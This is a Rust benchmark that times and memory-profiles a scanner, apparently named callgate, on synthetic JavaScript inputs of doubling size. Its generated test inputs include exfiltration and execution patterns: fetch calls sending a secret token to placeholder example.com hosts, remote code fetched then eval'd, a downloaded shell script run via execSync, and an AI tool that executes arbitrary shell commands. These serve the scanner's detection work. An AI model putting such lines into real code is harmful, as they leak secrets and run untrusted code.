//! How the cost of shapes that once took too long grows with their size.
//!
//! `cargo bench --bench growth` writes each shape at a size, at twice and at four times that size, judges each in a process with
//! one thread, and prints the least time of several runs, what each doubling costs, and the most memory that the largest took. It
//! fails where a doubling costs more than 2.3 times as much in the mean, or where the largest takes more than 512 MB; what seems
//! steep is measured again. Time is what the processor spent, where the system tells it, so that others on the machine disturb less; the start of
//! a process is taken off. Words name the shapes to measure: `cargo bench --bench growth -- kept keys`.

#![expect(clippy::expect_used, clippy::print_stdout, reason = "a benchmark prints its figures, and cannot go on without its input")]

use std::fmt::Write as _;
use std::fs;
use std::path::Path;
use std::process::{Command, Stdio};
use std::thread;
use std::time::{Duration, Instant};

/// How often each size is measured at the most.
const RUNS: usize = 7;
/// How long one size is measured; a second run may begin.
const ENOUGH: Duration = Duration::from_millis(2_000);
/// How often what seems steep is measured.
const TRIALS: usize = 3;
/// What a doubling may cost.
const MOST: f64 = 2.3;
/// How much memory the largest may take, in kilobytes.
const MOST_MEMORY: u64 = 512 * 1_024;
/// How long a tick is by which Linux counts what processes spent.
const TICK: Duration = Duration::from_millis(10);

/// What stands in a folder for a size, and what is asked of it.
struct Shape {
    name: &'static str,
    /// The size that is doubled twice.
    size: usize,
    words: &'static [&'static str],
    files: fn(usize) -> Vec<(&'static str, String)>,
}

const SCRIPT: &[&str] = &["scan", "--no-config", "a.js"];
const SETTINGS: &[&str] = &["scan", "--config", "callgate.yaml", "a.js"];
const FOLDER: &[&str] = &["scan", "--no-config", "."];
const EXPLAIN: &[&str] = &["scan", "--no-config", "--explain-score", "a.js"];

const SHAPES: &[Shape] = &[
    Shape { name: "keys of one object", size: 20_000, words: SCRIPT, files: |size| script(&object(size), 1, |_| TELL.to_owned()) },
    Shape { name: "keys, calls", size: 250, words: SCRIPT, files: |size| script(&object(12_000), size, |_| TELL.to_owned()) },
    Shape { name: "sensitive keys, calls", size: 20, words: SCRIPT, files: |size| script(&sensitive(1_500), size, |_| TELL.to_owned()) },
    Shape { name: "one path kept", size: 8_000, words: SCRIPT, files: |size| script("", size, written) },
    Shape { name: "one path kept and read", size: 6_000, words: SCRIPT, files: |size| script("", size, read_back) },
    Shape { name: "one path kept and handed on", size: 1_000, words: SCRIPT, files: |size| script(LIST, size, handed_on) },
    Shape { name: "entries of objects", size: 150, words: SCRIPT, files: |size| script(&object(3_000), size, entries) },
    Shape { name: "one converting tool", size: 5_000, words: SCRIPT, files: |size| script(LIST, size, |_| CONVERT.to_owned()) },
    Shape { name: "many converting tools", size: 2_000, words: SCRIPT, files: |size| script(LIST, size, convert) },
    Shape { name: "nested arrows", size: 60, words: SCRIPT, files: |size| script("", size, arrows) },
    Shape { name: "matches, explained", size: 5_000, words: EXPLAIN, files: |size| script("", size, evals) },
    Shape { name: "flows, explained", size: 2_000, words: EXPLAIN, files: |size| script(SECRET, size, sends) },
    Shape { name: "tool calls", size: 25_000, words: SCRIPT, files: |size| script("", size, gets) },
    Shape { name: "unknown code, eval", size: 400, words: SCRIPT, files: |size| script("", size, unknown_code) },
    Shape { name: "commands of a model", size: 400, words: SCRIPT, files: |size| script(KITS, size, model_tool) },
    Shape { name: "files fetched and run", size: 500, words: SCRIPT, files: |size| script(NODE, size, fetched) },
    Shape { name: "files that start", size: 800, words: SCRIPT, files: |size| script(NODE, size, startup) },
    Shape { name: "made and deleted", size: 2_000, words: SCRIPT, files: |size| script(CLIENT, size, made) },
    Shape { name: "remotes that are pushed to", size: 800, words: SCRIPT, files: |size| script(GIT, size, remote) },
    Shape { name: "trusted hosts", size: 30_000, words: SETTINGS, files: |size| settings("trusted:", size, |at| format!("- h{at}.io")) },
    Shape { name: "names of calls", size: 30_000, words: SETTINGS, files: |size| settings("calls:", size, |at| format!("- o.c{at}")) },
    Shape { name: "anchors", size: 10_000, words: SETTINGS, files: |size| settings("trusted:", size, |at| format!("- &a{at} h{at}.io")) },
    Shape { name: "wildcards", size: 10_000, words: SETTINGS, files: |size| settings("tools:", size, wildcard) },
    Shape { name: "ignored globs", size: 75_000, words: FOLDER, files: |size| ignored(size, |at| format!("d{at}/*.b{at}")) },
    Shape { name: "ignored words", size: 150_000, words: FOLDER, files: |size| ignored(size, |at| format!("*d{at}*")) },
];

const TELL: &str = "await callTool('notes:create', o);";
const LIST: &str = "let x = await callTool('users:list', {});\n";
const SECRET: &str = "const s = process.env.SECRET_TOKEN;\n";
const CONVERT: &str = "x = await callTool('text:format', { x });";

const NODE: &str = "const fs = require('fs'); const { execSync } = require('child_process');\n";
const KITS: &str = "import { tool } from 'ai'; import { z } from 'zod'; import { execSync } from 'node:child_process';\n";
const CLIENT: &str = "import { PrismaClient } from '@prisma/client';\nconst db = new PrismaClient();\n";
const GIT: &str = "import simpleGit from 'simple-git';\nconst git = simpleGit();\n";

fn object(keys: usize) -> String {
    let keys: String = (0..keys).map(|at| format!("k{at}: {at}, ")).collect();
    format!("const o = {{ {keys} }};\n")
}

fn sensitive(keys: usize) -> String {
    let keys: String = (0..keys).map(|at| format!("k{at}: x.f{at}, ")).collect();
    format!("{LIST}const o = {{ {keys} }};\n")
}

fn written(at: usize) -> String {
    format!("await callTool('fs:write_file', {{ path: '/tmp/a', content: '{at}' }});")
}

fn read_back(at: usize) -> String {
    format!("{} await callTool('fs:read_file', {{ path: '/tmp/a' }});", written(at))
}

fn handed_on(at: usize) -> String {
    format!(
        "await callTool('fs:write_file', {{ path: '/tmp/a', content: x.a{at} }}); await callTool('mail:send', {{ attachment: '/tmp/a' }});"
    )
}

fn entries(at: usize) -> String {
    format!("for (const [k, v] of Object.entries(o)) await callTool('notes:create{at}', {{ k, v }});")
}

fn convert(at: usize) -> String {
    format!("x = await callTool('text:format{at}', {{ x }});")
}

fn arrows(at: usize) -> String {
    format!("const f{at} = {}1;", "() => ".repeat(900))
}

fn evals(at: usize) -> String {
    format!("await callTool('users:delete', {{ id: {at} }}); eval('x{at}');")
}

fn sends(at: usize) -> String {
    format!("fetch('https://h{at}.example.com/?' + s);")
}

fn gets(at: usize) -> String {
    format!("const r{at} = await callTool('tickets:get{at}', {{ id: {at} }});")
}

fn unknown_code(at: usize) -> String {
    format!(
        "async function f{at}(a{at}) {{ const b{at} = await (await fetch('https://h{at}.example.com')).text(); eval(b{at}); }} f{at}();"
    )
}

fn model_tool(at: usize) -> String {
    format!("const t{at} = tool({{ inputSchema: z.object({{ c: z.string() }}), execute: async ({{ c }}) => execSync(c).toString() }});")
}

fn fetched(at: usize) -> String {
    format!("fs.writeFileSync('/tmp/f{at}.sh', await (await fetch('https://h{at}.example.com')).text()); execSync('sh /tmp/f{at}.sh');")
}

fn startup(at: usize) -> String {
    format!("fs.writeFileSync('/srv/a{at}/.git/hooks/pre-push', '#!/bin/sh\\nnpm run check{at}\\n');")
}

fn made(at: usize) -> String {
    format!("await db.backup.create({{ data: {{ id: 'b{at}' }} }}); await db.backup.delete({{ where: {{ id: 'b{at}' }} }});")
}

fn remote(at: usize) -> String {
    format!("await git.addRemote('r{at}', 'https://git{at}.example.com/a.git'); await git.push('r{at}', 'main');")
}

fn wildcard(at: usize) -> String {
    format!("  'c{at}:*': {{ does: reads }}")
}

fn script(first: &str, size: usize, line: impl Fn(usize) -> String) -> Vec<(&'static str, String)> {
    let mut text = first.to_owned();
    for at in 0..size {
        writeln!(text, "{}", line(at)).expect("a text can be written");
    }
    vec![("a.js", text)]
}

/// Settings, and a script that asks for what stands in them.
fn settings(key: &str, size: usize, line: impl Fn(usize) -> String) -> Vec<(&'static str, String)> {
    let mut text = format!("{key}\n");
    for at in 0..size {
        writeln!(text, "{}", line(at)).expect("a text can be written");
    }
    let mut files = script(LIST, 200, |at| format!("await callTool('http:post{at}', {{ url: 'https://x{at}.example.com/', x }});"));
    files.push(("callgate.yaml", text));
    files
}

fn ignored(size: usize, line: impl Fn(usize) -> String) -> Vec<(&'static str, String)> {
    let globs: String = (0..size).map(|at| line(at) + "\n").collect();
    vec![("a.js", TELL.replace(", o", "")), (".git/HEAD", "ref: refs/heads/main\n".to_owned()), (".gitignore", globs)]
}

fn main() {
    let wanted: Vec<String> = std::env::args().skip(1).filter(|word| !word.starts_with('-')).collect();
    let start = Cost::of(&["--version"], Path::new("."));
    println!(
        "{:<30} {:>9} {:>9} {:>9} {:>9} {:>9} {:>9} {:>9}",
        "shape", "once s", "twice s", "4 times s", "doubling", "doubling", "mean", "peak MB"
    );
    let mut steep = Vec::new();
    for shape in SHAPES.iter().filter(|shape| wanted.is_empty() || wanted.iter().any(|word| shape.name.contains(word.as_str()))) {
        let measured = shape.measured(start);
        let is_steep = measured.is_steep();
        println!("{:<30} {measured}{}", shape.name, if is_steep { "   too much" } else { "" });
        if is_steep {
            steep.push(shape.name);
        }
    }
    assert!(steep.is_empty(), "these grow too fast or take too much: {}", steep.join(", "));
}

/// What a shape costs once, twice and four times as large.
struct Measured([Cost; 3]);

impl Measured {
    /// The least of two measurements.
    fn least(self, other: Self) -> Self {
        let [once, twice, four] = self.0;
        let [other_once, other_twice, other_four] = other.0;
        Self([once.least(other_once), twice.least(other_twice), four.least(other_four)])
    }

    fn seconds(&self) -> [f64; 3] {
        self.0.map(|cost| cost.took.as_secs_f64().max(0.01))
    }

    fn is_steep(&self) -> bool {
        let [once, _, four] = self.seconds();
        MOST < (four / once).sqrt() || self.0[2].peak.is_some_and(|peak| MOST_MEMORY < peak)
    }
}

impl std::fmt::Display for Measured {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        let [once, twice, four] = self.seconds();
        let peak = self.0[2].peak.map_or("not told".to_owned(), |peak| (peak / 1_024).to_string());
        write!(
            f,
            "{once:>9.2} {twice:>9.2} {four:>9.2} {:>9.2} {:>9.2} {:>9.2} {peak:>9}",
            twice / once,
            four / twice,
            (four / once).sqrt()
        )
    }
}

impl Shape {
    fn measured(&self, start: Cost) -> Measured {
        let once = || Measured([1, 2, 4].map(|times| self.cost(times).without(start)));
        let mut measured = once();
        for _ in 1..TRIALS {
            if measured.is_steep() {
                measured = measured.least(once());
            }
        }
        measured
    }

    /// What it costs at so many times its size.
    fn cost(&self, times: usize) -> Cost {
        let folder = tempfile::tempdir().expect("a folder can be made");
        for (name, text) in (self.files)(self.size * times) {
            let path = folder.path().join(name);
            fs::create_dir_all(path.parent().expect("it stands in a folder")).expect("a folder can be made");
            fs::write(path, text).expect("a file can be written");
        }
        Cost::of(self.words, folder.path())
    }
}

/// What running callgate costs.
#[derive(Clone, Copy)]
struct Cost {
    took: Duration,
    /// The most memory that it took, in kilobytes, where that is told.
    peak: Option<u64>,
}

impl Cost {
    /// The least of several runs.
    fn of(words: &[&str], folder: &Path) -> Self {
        let mut least = Self::once(words, folder);
        let started = Instant::now();
        for _ in 1..RUNS {
            if ENOUGH < started.elapsed() {
                break;
            }
            least = least.least(Self::once(words, folder));
        }
        least
    }

    fn least(self, other: Self) -> Self {
        Self { took: self.took.min(other.took), peak: self.peak.max(other.peak) }
    }

    fn without(self, start: Self) -> Self {
        Self { took: self.took.saturating_sub(start.took), ..self }
    }

    fn once(words: &[&str], folder: &Path) -> Self {
        let mut command = Command::new(env!("CARGO_BIN_EXE_callgate"));
        command.args(words).current_dir(folder).stdout(Stdio::null()).stderr(Stdio::null());
        if words.len() != 1 {
            command.args(["--jobs", "1"]);
        }
        let (before, started) = (spent(), Instant::now());
        let mut child = command.spawn().expect("callgate can be started");
        let mut peak = None;
        let status = loop {
            peak = peak.max(peak_of(child.id()));
            if let Some(status) = child.try_wait().expect("callgate can be waited for") {
                break status;
            }
            thread::park_timeout(TICK / 5);
        };
        let took = before.zip(spent()).map_or_else(|| started.elapsed(), |(before, after)| after.saturating_sub(before));
        assert!(status.code().is_some_and(|code| code < 3), "{words:?} failed");
        Self { took, peak }
    }
}

/// What the processor spent for the processes that were started and have ended, as Linux tells it.
fn spent() -> Option<Duration> {
    let told = fs::read_to_string("/proc/self/stat").ok()?;
    // The name of the process may hold spaces; it ends with the last bracket.
    let (_, numbers) = told.rsplit_once(')')?;
    let mut ticks = numbers.split_whitespace().skip(13).take(2).map(str::parse::<u32>);
    Some(TICK * (ticks.next()?.ok()? + ticks.next()?.ok()?))
}

/// The most memory that a process took so far, in kilobytes.
fn peak_of(process: u32) -> Option<u64> {
    let status = fs::read_to_string(format!("/proc/{process}/status")).ok()?;
    let line = status.lines().find_map(|line| line.strip_prefix("VmHWM:"))?;
    line.split_whitespace().next()?.parse().ok()
}
